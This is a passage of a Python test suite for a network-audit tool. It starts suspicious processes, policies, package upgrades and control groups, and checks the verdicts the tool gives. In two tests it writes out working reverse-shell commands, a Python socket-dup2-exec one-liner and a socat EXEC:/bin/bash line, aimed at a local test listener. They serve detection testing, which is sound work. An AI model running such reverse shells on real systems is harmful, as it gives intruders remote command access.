        scene.wait_until("it calls home", lambda: live.rows("dport = 7011 and exe /srv/evil", columns="pid"))
        found = audit("exe /srv/evil")["findings"]
        live.equal([f["verdict"] for f in found], ["unexplained"], found)


def test_policy():
    with Scene() as s:
        p = s.intruder(s.copy("/srv/service"), "listen", "127.0.0.1", 7003)
        gone = s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 7004)
        client = s.intruder("/srv/service", "connect", "127.0.0.1", 7003)
        os.unlink("/srv/gone")
        with open("/srv/list", "w") as f:
            f.write("# bad\n127.0.0.0/8\n")
        with open("/srv/policy", "w") as f:
            f.write('never "no calls" exe /srv/service and direction outgoing\n'
                    'block file /srv/list\n'
                    'expect "deleted" exe /srv/gone*\n'
                    'expect "the service" exe /srv/service always\n'
                    'expect "ssh" service ssh always\n')
        doc = audit(policy="/srv/policy")
        expect(doc, p["pid"], "explained", "policy-expect")
        expect(doc, client["pid"], "suspicious", "policy-never")
        # what is expected is still suspicious when it is deleted
        expect(doc, gone["pid"], "suspicious", "policy-expect", "exe-deleted")
        live.equal([m["title"] for m in doc["missing"]], ["ssh"], "missing")
        live.equal([r["matches"] for r in doc["policy"]][:1], [1], "matches")
        with open("/srv/policy", "w") as f:
            f.write("block file /srv/list\n")
        doc = audit(policy="/srv/policy")
        found = expect(doc, client["pid"], "suspicious", "policy-block")
        live.holds("line 2" in " ".join(found[0]["evidence"]), found[0]["evidence"])
        with open("/srv/policy", "w") as f:
            f.write('expect "office" direction incoming and service ssh and src 10.0.0.0/8\n'
                    'expect "local" direction incoming and dst 10.0.0.0/8 and src 127.0.0.1\n')
        text = live.run("audit", "--policy=/srv/policy", expect=None).stdout.decode()
        live.equal(text.count("src is the local end"), 1, "the hint about the rule that nothing matched")


def test_what_a_policy_accepts():
    """What is expected is accused all the same, unless the policy names the rule; a baseline names what it found."""
    with Scene() as s:
        sock, port = s.attacker()
        sniffs = s.intruder(s.copy("/srv/own"), "packet")
        opens = s.intruder("/srv/own", "listen", "0.0.0.0", 50505)
        s.copy("/srv/shell", "/bin/bash")
        shell = s.start("/usr/bin/python3", "-c", "import os,socket\ns=socket.create_connection(('127.0.0.1',%d))\n"
                        "[os.dup2(s.fileno(),i) for i in (0,1,2)]\nos.execv('/srv/shell',['shell'])" % port)
        s.accept(sock)
        scene.wait_until("the shell", lambda: os.readlink("/proc/%d/exe" % shell.pid) == "/srv/shell")
        found = ((sniffs["pid"], "sniffer"), (opens["pid"], "open-dynamic-listener"), (shell.pid, "shell-on-socket"))
        for despite in ("", "despite " + ",".join(rule for _, rule in found)):
            with open("/srv/policy", "w") as f:
                f.writelines('expect "ours" exe %s %s\n' % (path, despite) for path in ("/srv/own", "/srv/shell"))
            doc = audit(policy="/srv/policy")
            for pid, rule in found:
                expect(doc, pid, "explained" if despite else "suspicious", "policy-expect", rule)
        baseline = live.run("baseline").stdout.decode()
        with open("/srv/policy", "w") as f:
            f.write(baseline)
        doc = audit(policy="/srv/policy")
        for pid, rule in found:
            expect(doc, pid, "suspicious", "policy-expect", rule)
            live.holds("# suspicious, unless you add: despite %s\n" % rule in baseline, baseline)


def test_kernel_socket():
    with Scene():
        done = subprocess.run(["ip", "link", "add", "vx0", "type", "vxlan", "id", "7", "dstport", "4790",
                               "local", "127.0.0.1", "dev", "lo"], stderr=subprocess.PIPE, check=False)
        live.equal(done.returncode, 0, done.stderr.decode())
        try:
            live.shell("ip link set vx0 up")
            found = audit("sport = 4790")["findings"]
        finally:
            live.shell("ip link del vx0")
        live.holds(found, "the kernel's socket is not listed")
        for finding in found:
            live.equal(finding["verdict"], "explained", finding["evidence"])
            live.holds("kernel-socket" in finding["rules"], finding["rules"])


def nlattr(kind, value):
    return struct.pack("=HH", 4 + len(value), kind) + value + b"\0" * (-len(value) % 4)


def link_stream(*links):
    """What rtnetlink says of interfaces, as a recording has it: (index, kind, port attribute or None, port)."""
    data = b""
    for index, kind, attribute, port in links:
        info = nlattr(1, kind.encode() + b"\0")
        if attribute:
            info += nlattr(2, nlattr(attribute, struct.pack(">H", port)))
        body = struct.pack("=BBHiII", 0, 0, 1, index, 0, 0) + nlattr(3, b"tun%d\0" % index) + nlattr(18, info)
        data += struct.pack("=IHHII", 16 + len(body), 16, 2, 1, 0) + body
    data += struct.pack("=IHHIIi", 20, 3, 2, 1, 0, 0)
    return struct.pack("=II", len(data), 0) + data


def fact(key, value):
    return struct.pack("=II", len(key), len(value)) + key + value


def change(folder, stream, data, append=False):
    with open(os.path.join(folder, "streams", stream), "ab" if append else "wb") as f:
        f.write(data)


def test_kernel_sockets_recorded():
    """Kinds that this kernel may not have: a real socket of the kernel (of VXLAN), and what a kernel that has them says
    of its interfaces, made by hand."""
    with Scene():
        live.shell("ip link add vx0 type vxlan id 7 dstport 4790 local 127.0.0.1 dev lo; ip link set vx0 up")
        try:
            audit("--record=/srv/r")
        finally:
            live.shell("ip link del vx0")

        def verdict():
            findings = audit("--replay=/srv/r", "sport = :4790")["findings"]
            live.equal(len(findings), 1, "findings")
            return findings[0]["verdict"], " ".join(findings[0]["evidence"])
        live.equal(verdict()[0], "explained", "as it was recorded")
        for kind, attribute in (("geneve", 5), ("vxlan", 15)):
            change("/srv/r", "links.judge", link_stream((9, kind, attribute, 4790)))
            found, why = verdict()
            live.equal(found, "explained", why)
            live.holds("a %s tunnel" % kind.upper() in why, why)
            # the port alone is nothing: another interface has it
            change("/srv/r", "links.judge", link_stream((9, kind, attribute, 4791), (10, "dummy", attribute, 4790)))
            live.equal(verdict()[0], "unexplained", kind + " elsewhere")
        change("/srv/r", "links.judge", link_stream((9, "wireguard", None, 0), (10, "wireguard", None, 0)))
        change("/srv/r", "judge", fact(b"wireguard port of 9", b"51820"), append=True)
        live.equal(verdict()[0], "unexplained", "WireGuard on another port")
        change("/srv/r", "judge", fact(b"wireguard port of 10", b"4790"), append=True)
        found, why = verdict()
        live.equal((found, "WireGuard" in why), ("explained", True), why)


def test_kernel_tls_recorded():
    """A connection that no process holds and that the kernel encrypts, by the mark the iterators give it; a process that hides
    its own, in a message under way, has no such mark."""
    with Scene() as s:
        sock, port = s.attacker()
        one, other = socket.socketpair()
        held = socket.create_connection(("127.0.0.1", port))
        s.accept(sock)
        inode, local = os.fstat(held.fileno()).st_ino, held.getsockname()[1]
        socket.send_fds(one, [b"x"], [held.fileno()])
        held.close()
        only = "sport = :%d" % local
        live.equal([f["verdict"] for f in audit(only, "--record=/srv/r")["findings"]], ["unexplained"], "in flight")
        one.close()
        other.close()
        for marks, verdict in ((0x10, "unexplained"), (0x01, "unexplained"), (0x11, "explained")):
            end = socket.inet_aton("127.0.0.1") + b"\0" * 12
            change("/srv/r", "views", struct.pack("=16sI16sIII8B", end, local, end, port, inode, 0, socket.AF_INET, 0, 1, 1,
                                                  7, 0, marks, 0))
            found = audit("--replay=/srv/r", only)["findings"]
            live.equal([f["verdict"] for f in found], [verdict], "marks %#x: %r" % (marks, found[0]["evidence"]))
        live.holds("TLS in the kernel" in " ".join(found[0]["evidence"]), found[0]["evidence"])


def test_notes():
    with Scene() as s:
        p = s.intruder(s.copy("/srv/old"), "listen", "0.0.0.0", 23)
        found = expect(audit(), p["pid"], "unexplained", "cleartext")
        live.holds("telnet" in " ".join(found[0]["evidence"]), found[0]["evidence"])


def test_exposure_of_known_programs():
    with Scene() as s:
        for address, port in (("0.0.0.0", 6390), ("127.0.0.1", 6391)):
            s.start("/usr/bin/redis-server", "--port", port, "--bind", address, "--protected-mode", "no", "--save", "", "--dir", "/srv")
        scene.wait_until("redis listens", lambda: scene.listens(6390) and scene.listens(6391))
        (wide,), (narrow,) = (audit("sport = :%d" % port)["findings"] for port in (6390, 6391))
        live.equal((wide["verdict"], narrow["verdict"]), ("explained", "explained"), wide["evidence"])
        live.holds("exposed" in wide["rules"] and "every address" in " ".join(wide["evidence"]), wide["evidence"])
        live.holds("exposed" not in narrow["rules"], narrow["evidence"])


def test_source_ports():
    with Scene() as s:
        sock, port = s.attacker()
        for source, is_odd in ((1022, True), (0, False)):
            with socket.socket() as client:
                client.bind(("127.0.0.1", source))
                client.connect(("127.0.0.1", port))
                s.accept(sock)
                (found,) = audit("sport = :%d" % client.getsockname()[1], "and", "direction", "outgoing")["findings"]
                live.equal("odd-source-port" in found["rules"], is_odd, found["evidence"])
                live.equal("1022" in " ".join(found["evidence"]), is_odd, found["evidence"])


class Packages:
    """dpkg's own work, on a copy of its database and in folders that are gone with the scene."""

    def __init__(self, s):
        self.version = 0
        for folder in ("/var/lib/dpkg", "/usr/lib/systemd/system", "/opt"):
            upper = "/srv/upper" + folder
            os.makedirs(upper)
            os.makedirs("/srv/work" + folder)
            s.mount("-t", "overlay", "overlay", "-o", "lowerdir=%s,upperdir=%s,workdir=/srv/work%s" % (folder, upper, folder), folder)

    def install(self, files):
        """Another version of the package portavoz-test, with these files: {path: bytes}."""
        self.version += 1
        root = "/srv/deb%d" % self.version
        for path, data in {**files, "/DEBIAN/control": b"Package: portavoz-test\nVersion: %d\nArchitecture: all\n"
                           b"Maintainer: nobody <nobody@example.org>\nDescription: test\n" % self.version}.items():
            os.makedirs(os.path.dirname(root + path), exist_ok=True)
            with open(root + path, "wb") as f:
                f.write(data)
            os.chmod(root + path, 0o755 if data[:2] in (b"#!", b"\x7fE") else 0o644)
        subprocess.run(["dpkg-deb", "-b", root, root + ".deb"], check=True, stdout=subprocess.DEVNULL)
        subprocess.run(["dpkg", "--log=/srv/dpkg.log", "-i", root + ".deb"], check=True, stdout=subprocess.DEVNULL)


def test_upgraded():
    """A program whose package is upgraded by dpkg while it runs, and one that something else replaced."""
    with Scene() as s:
        packages = Packages(s)
        with open(scene.INTRUDER, "rb") as f:
            program = f.read()
        packages.install({"/opt/server": program})
        p = s.intruder("/opt/server", "listen", "127.0.0.1", 0)
        expect(audit(), p["pid"], "explained", "package")
        time.sleep(2.2)  # dates of files and the time of the boot count seconds
        packages.install({"/opt/server": program + b"\0"})
        found = expect(audit(), p["pid"], "unexplained", "exe-upgraded")
        live.holds("restart it" in " ".join(found[0]["evidence"]), found[0]["evidence"])
        restarted = s.intruder("/opt/server", "listen", "127.0.0.1", 0)
        expect(audit(), restarted["pid"], "explained", "package")
        time.sleep(2.2)
        late = s.intruder("/opt/server", "listen", "127.0.0.1", 0)
        s.copy("/opt/new")
        os.rename("/opt/new", "/opt/server")
        expect(audit(), late["pid"], "suspicious", "exe-replaced")


SCRIPT = b"""#!/usr/bin/python3
import socket, sys
listening = socket.create_server(("127.0.0.1", int(sys.argv[1])))
sys.stdin.read()
"""


def test_packaged_scripts():
    """A script of the package whose unit it runs in is explained; the same elsewhere, and another there, are not."""
    with Scene() as s:
        packages = Packages(s)
        packages.install({"/opt/server": SCRIPT, "/usr/lib/systemd/system/portavoz-test.service": b"[Service]\n"})
        other = s.copy("/srv/server", "/opt/server")
        os.makedirs("/srv/cgroup")
        s.mount("-t", "cgroup2", "none", "/srv/cgroup")
        group = "/srv/cgroup/system.slice/portavoz-test.service"
        made = [g for g in (os.path.dirname(group), group) if not os.path.exists(g)]
        os.makedirs(group, exist_ok=True)
        try:
            place = "echo $$ >%s/cgroup.procs; exec \"$@\"" % group
            runs = [(7001, s.start("sh", "-c", place, "sh", "/opt/server", 7001), "explained"),
                    (7002, s.start("/opt/server", 7002), "unexplained"),
                    (7003, s.start("sh", "-c", place, "sh", other, 7003), "unexplained"),
                    (7004, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-", 7004), "unexplained"),
                    (7005, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-uB", "/opt/server", 7005), "explained"),
                    # options whose value looks like the script
                    (7006, s.start("sh", "-c", place, "sh", "/usr/bin/python3", "-X", "/opt/server", "-c", SCRIPT.decode(),
                                   7006), "unexplained"),
                    (7007, s.start("sh", "-c", place, "sh", "/usr/bin/perl", "-I", "/opt/server", "-MIO::Socket::INET", "-e",
                                   "$s=IO::Socket::INET->new(LocalAddr=>'127.0.0.1:7007',Listen=>1);sleep 60"),
                     "unexplained")]
            runs[3][1].stdin.write(SCRIPT.replace(b"sys.stdin.read()", b"import time; time.sleep(60)"))
            runs[3][1].stdin.close()
            scene.wait_until("they listen", lambda: all(scene.listens(port) for port, _, _ in runs))
            doc = audit()
            for _, process, verdict in runs:
                found = expect(doc, process.pid, verdict)
                live.equal("packaged-script" in found[0]["rules"], verdict == "explained", found[0]["evidence"])
            doc = audit("--verify")
            for _, process, verdict in runs:
                found = expect(doc, process.pid, verdict)
                live.holds(verdict != "explained" or "partial" not in found[0]["rules"], found[0]["evidence"])
            with open("/opt/server", "ab") as f:  # the inode stays, and so does its package
                f.write(b"# changed\n")
            expect(audit(), runs[0][1].pid, "explained", "packaged-script")
            doc = audit("--verify", "--record=/srv/recording")
            for number, verdict in ((0, "suspicious"), (1, "suspicious"), (2, "unexplained"), (4, "suspicious"), (5, "unexplained")):
                found = expect(doc, runs[number][1].pid, verdict)
                live.equal("exe-modified" in found[0]["rules"], verdict == "suspicious", found[0]["evidence"])
            live.holds("/opt/server is not what the package portavoz-test installed" in
                       " ".join(scene.of_pid(doc, runs[0][1].pid)[0]["evidence"]), "the script is named")
            live.equal(simple(audit("--replay=/srv/recording", "--verify")), simple(doc), "what the recording says")
        finally:
            for _, process, _ in runs:
                process.kill()
                process.wait()
            for folder in reversed(made):
                os.rmdir(folder)


class Groups:
    """Control groups, in a cgroup2 mount of the test's own; removed at the end with what runs in them."""

    def __init__(self, s):
        self.scene, self.made, self.processes = s, [], []

    def __enter__(self):
        os.makedirs("/srv/cgroup", exist_ok=True)
        self.scene.mount("-t", "cgroup2", "none", "/srv/cgroup")
        return self

    def __exit__(self, *_):
        for process in self.processes:
            process.kill()
            process.wait()
        for folder in reversed(self.made):
            os.rmdir(folder)

    def run(self, group, *command, **kwargs):
        path = "/srv/cgroup"
        for part in group.split("/"):
            path += "/" + part
            if not os.path.exists(path):
                os.mkdir(path)
                self.made.append(path)
        process = self.scene.start("sh", "-c", "echo $$ >%s/cgroup.procs; exec \"$@\"" % path, "sh", *command, **kwargs)
        self.processes.append(process)
        return process


def test_units_and_containers_of_users():
    """A user's own manager may call its units and containers what it likes: they are others than the system's."""
    user = "user.slice/user-54321.slice/user@54321.service/"
    number = "a1b2c3d4" * 8
    with Scene() as s, Groups(s) as groups:
        with open("/srv/policy", "w") as f:
            f.write('expect "service" unit portavoz-test.service\nexpect "number" container %s\n'
                    'expect "machine" container web\nexpect "his" unit user@54321.service/his.service\n' % number)
        s.copy("/srv/evil")
        wanted = {}
        for port, (group, verdict) in enumerate((
                ("system.slice/portavoz-test.service", "explained"),
                ("system.slice/docker-%s.scope" % number, "explained"),
                ("lxc/web", "explained"),
                (user + "app.slice/his.service", "explained"),
                (user + "app.slice/portavoz-test.service", "unexplained"),
                (user + "portavoz-test.service", "unexplained"),
                (user + "app.slice/docker-%s.scope" % number, "unexplained"),
                (user + "lxc/web", "unexplained"),
                (user + "lxc.payload.web", "unexplained")), 7201):
            groups.run(group, "/srv/evil", "listen", "127.0.0.1", port)
            wanted[port] = verdict
        scene.wait_until("they listen", lambda: all(scene.listens(port) for port in wanted))
        doc = audit(policy="/srv/policy")
        found = {f["conversation"]["local_port"]: f["verdict"] for f in doc["findings"]
                 if f["conversation"]["local_port"] in wanted}
        live.equal(found, wanted, "verdicts by port")
        rows = {r["local_port"]: r for r in live.rows("dport 0", columns="local_port,unit,container")}
        live.equal(rows[7205]["unit"], "user@54321.service/portavoz-test.service", "the unit")
        live.equal(rows[7208]["container"], "user@54321.service/web", "the container")
        live.equal(len(live.rows("container user@54321.service/%s" % number[:12], columns="pid")), 1, "by its number")
        # nor does such a place hide that a program imitates another
        liar = groups.run(user + "lxc/web", "/srv/evil", "comm=sshd", "listen", "127.0.0.1", 7220)
        scene.wait_until("it listens", lambda: scene.listens(7220))
        expect(audit(), liar.pid, "suspicious", "imitates-program")


def test_hostile_names():
    name = "/srv/a\x1b[31m\n  b\u202e"
    with Scene() as s:
        p = s.intruder(s.copy(name), "comm=\x1b]0;x\x07\n", "listen", "127.0.0.1", 0)
        for args in (["--no-policy"], ["--no-policy", "--json"], ["--no-policy", "--color=never", "--all"]):
            done = live.run("audit", *args, expect=None)
            live.no_raw(done.stdout, "audit")
        doc = audit()
        found = expect(doc, p["pid"], "unexplained", "exe-unpackaged")
        live.holds(name in found[0]["evidence"][0], found[0]["evidence"])
        table = live.run("list", "--columns=evidence", "-H").stdout
        live.no_raw(table, "the column evidence")
        live.holds(b"  " not in table, "two spaces in a cell: %r" % table)


def simple(doc):
    return sorted((f["verdict"], tuple(f["rules"]), tuple(f["evidence"])) for f in doc["findings"])


def test_recording():
    with Scene() as s:
        s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
        os.unlink("/srv/gone")
        git_daemon(s, 9418)
        sock, port = s.attacker()
        s.start("bash", "-c", "exec socat TCP:127.0.0.1:%d EXEC:/bin/bash,pty,stderr,setsid" % port)
        s.accept(sock)
        time.sleep(0.2)
        doc = audit("--record=/srv/recording", "--verify")
        again = audit("--replay=/srv/recording", "--verify")
        live.equal(simple(again), simple(doc), "what a recording says")
        live.run("list", "--record=/srv/plain")
        live.equal(simple(audit("--replay=/srv/plain", "--verify")), simple(doc), "what a list's recording says")


def test_filter_and_columns():
    with Scene() as s:
        p = s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
        git_daemon(s, 9418)
        os.unlink("/srv/gone")
        rows = live.rows("verdict suspicious", columns="pid,verdict,evidence")
        live.equal([r["pid"] for r in rows], [p["pid"]], "list verdict suspicious")
        rows = live.rows("evidence exe-deleted", columns="pid,verdict")
        live.equal([(r["pid"], r["verdict"]) for r in rows], [(p["pid"], "suspicious")], "by rule")
        rows = live.rows("state listening and verdict explained and not evidence 'exe-*'", columns="comm")
        live.equal([r["comm"] for r in rows], ["git-daemon"], "explained")
        coloured = live.run("list", "--columns=verdict", "-H", "--color=always").stdout
        live.holds(b"\x1b[31msuspicious" in coloured and b"\x1b[32mexplained" in coloured, coloured)


def test_redacted():
    with Scene() as s:
        s.intruder(s.copy("/srv/secret-place/gone"), "listen", "127.0.0.1", 7005)
        os.unlink("/srv/secret-place/gone")
        with open("/srv/key", "wb") as f:
            f.write(os.urandom(32))
        os.chmod("/srv/key", 0o600)
        with open("/srv/policy", "w") as f:
            f.write('expect "secret-title" service ssh always\n')
        for form in ("--json", "--all"):
            done = live.run("audit", "--policy=/srv/policy", "--redact=/srv/key", form, expect=5)
            live.holds(b"exe-deleted" in done.stdout, "the rule")
            live.holds(b"secret" not in done.stdout, "a name is left: %r" % done.stdout)


def test_exit_status():
    here = ("audit", "--no-policy", "state listening")  # what other tests left behind apart
    with Scene() as s:
        live.run(*here, expect=0)
        git_daemon(s, 9418)
        live.run(*here, expect=0)
        s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
        live.run(*here, expect=4)
        live.run(*here, "and exe git-daemon", expect=0)
        s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
        os.unlink("/srv/gone")
        live.run(*here, expect=5)
        live.run(*here, "--strict", expect=5)
        live.run("audit", "--no-policy", "--policy=/srv/none", expect=2)
        live.run("audit", "--policy=/srv/none", expect=1)
        live.run("audit", "no such filter (", expect=2)


if __name__ == "__main__":
    live.main(globals(), pid=False)
